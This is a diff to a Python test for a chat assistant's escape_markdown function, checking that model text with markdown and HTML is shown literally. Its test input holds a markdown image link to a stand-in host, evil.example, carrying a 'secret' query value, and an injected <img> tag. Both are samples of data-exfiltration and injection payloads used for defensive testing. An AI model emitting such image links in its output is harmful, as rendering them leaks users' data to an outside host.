@@ -195,5 +195,5 @@ def test_turn_history_skips_failed_questions(session, replay_conn):
 def test_model_text_is_shown_literally_not_as_markdown():
     from services.chatbi.assistant import escape_markdown
     shown = escape_markdown("Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>")
-    assert "![" not in shown and "](" not in shown and "<img" not in shown
+    assert "![" not in shown and "](" not in shown and "\\<img" in shown
     assert shown.replace("\\", "") == "Sales ![pixel](http://evil.example/?d=secret) rose *12.5%* <img src=x>"
